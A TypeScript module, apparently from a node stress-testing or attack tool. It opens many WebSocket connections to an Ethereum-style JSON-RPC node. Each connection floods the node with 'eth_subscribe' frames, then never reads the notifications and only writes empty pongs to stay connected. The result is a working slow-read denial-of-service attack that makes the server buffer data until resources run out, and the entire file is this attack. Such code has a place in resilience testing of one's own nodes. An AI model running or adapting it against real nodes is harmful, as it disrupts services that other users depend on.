/** Connections that subscribe and never read what they are notified of. */
import { setTimeout } from "node:timers/promises";
import type { AttackFigures, AttackTarget } from "./attack.ts";
import { type AttackSocket, keepConnections, tallyFigures } from "./connections.ts";

/** Number of connections, and parameters of their subscriptions. */
export interface Subscribing {
  readonly connections: number;
  readonly subscriptions: number;
  readonly params: readonly unknown[];
}

/** A request to become a WebSocket connection. */
export const UPGRADE: string =
  "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
  "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
/** An empty pong with a mask of zeroes: a socket that does not read learns by writing that it was cut. */
const PONG = Buffer.from([0x8a, 0x80, 0, 0, 0, 0]);
const PROBE_MS = 500;

/** A masked text frame (RFC 6455, section 5.2) of up to 65,535 bytes; the mask is zero. */
export function textFrame(text: string): Buffer {
  const bytes = Buffer.from(text);
  const length = Buffer.from(
    bytes.length < 126 ? [0x80 | bytes.length] : [0x80 | 126, bytes.length >> 8, bytes.length & 0xff],
  );
  return Buffer.concat([Buffer.from([0x81]), length, Buffer.alloc(4), bytes]);
}

/** Runs until the signal. */
export async function subscribeSilently(
  { connections: count, subscriptions, params }: Subscribing,
  { wsPort: port }: AttackTarget,
  signal: AbortSignal,
): Promise<AttackFigures> {
  const call = textFrame(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_subscribe", params }));
  const calls = Buffer.alloc(call.length * subscriptions, call);
  const use = async ({ socket, write, answer }: AttackSocket) => {
    await write(UPGRADE);
    await answer();
    socket.pause();
    await write(calls);
    while (!signal.aborted) {
      await setTimeout(PROBE_MS, undefined, { signal });
      await write(PONG);
    }
  };
  return tallyFigures(await keepConnections({ port, count, signal, use }));
}
